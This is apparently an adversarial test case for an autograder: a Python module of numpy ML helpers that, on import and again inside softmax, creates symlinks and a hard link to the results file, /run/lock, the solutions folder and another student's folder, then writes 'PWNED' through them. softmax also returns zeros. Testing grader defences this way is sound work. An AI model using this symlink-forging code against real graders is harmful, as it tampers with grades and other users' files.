"""Attack: Fills its scratch folder with symlinks (results.json to a world-writable results file, a folder to /run/lock, one to
the solutions) and a hard link, then writes through them, hoping the grader or its clean-up follows them.

The outcome the grader must give is in tests/adversarial/expected.yml under forge_symlinks.py.
"""

import numpy as np
import os


def encoding_distances(encodings):
    e = np.asarray(encodings, dtype=float)
    d = e[:, None, :] - e[None, :, :]
    return np.sqrt(np.sum(d * d, axis=-1))


def one_hot(labels, num_classes):
    lab = np.asarray(labels)
    if lab.dtype.kind not in "iub":
        if lab.dtype.kind != "f" or not np.all(np.isfinite(lab)) or np.any(lab != np.round(lab)):
            raise ValueError("labels must be whole numbers")
    lab = lab.astype(np.int64)
    if np.any(lab < 0) or np.any(lab >= num_classes):
        raise ValueError("labels must lie in [0, num_classes)")
    return (lab[..., None] == np.arange(num_classes)).astype(float)


def _links():
    made = []
    for name, target in (("results.json", "/srv/autograder-adversarial/open/results/results.json"),
                         ("lock", "/run/lock"), ("solutions", "/work/main/solutions"),
                         ("bob", "/srv/autograder-adversarial/open/students/bob")):
        try:
            os.symlink(target, name)
            made.append(name)
        except OSError:
            pass
    try:
        os.link("/srv/autograder-adversarial/open/results/results.json", "hardlink.json")
    except OSError:
        pass
    for path in ("results.json", "hardlink.json", "lock/PWNED-adversarial", "bob/submission.py"):
        try:
            with open(path, "w") as fh:
                fh.write("PWNED")
        except OSError:
            pass
    return made


_links()


def softmax(logits, axis=-1):
    _links()
    return np.zeros(np.shape(logits))


def log_softmax(logits, axis=-1):
    z = np.asarray(logits, dtype=float)
    s = z - np.max(z, axis=axis, keepdims=True)
    return s - np.log(np.sum(np.exp(s), axis=axis, keepdims=True))


def sigmoid(z):
    z = np.asarray(z, dtype=float)
    e = np.exp(-np.abs(z))
    return np.where(z >= 0, 1.0 / (1.0 + e), e / (1.0 + e))


def mlp_logits(x, W1, b1, W2, b2):
    a = np.asarray(x, dtype=float) @ np.asarray(W1, dtype=float).T + b1
    e = np.exp(-np.abs(a))
    h = np.where(a >= 0, 1.0 / (1.0 + e), e / (1.0 + e))
    return h @ np.asarray(W2, dtype=float).T + b2
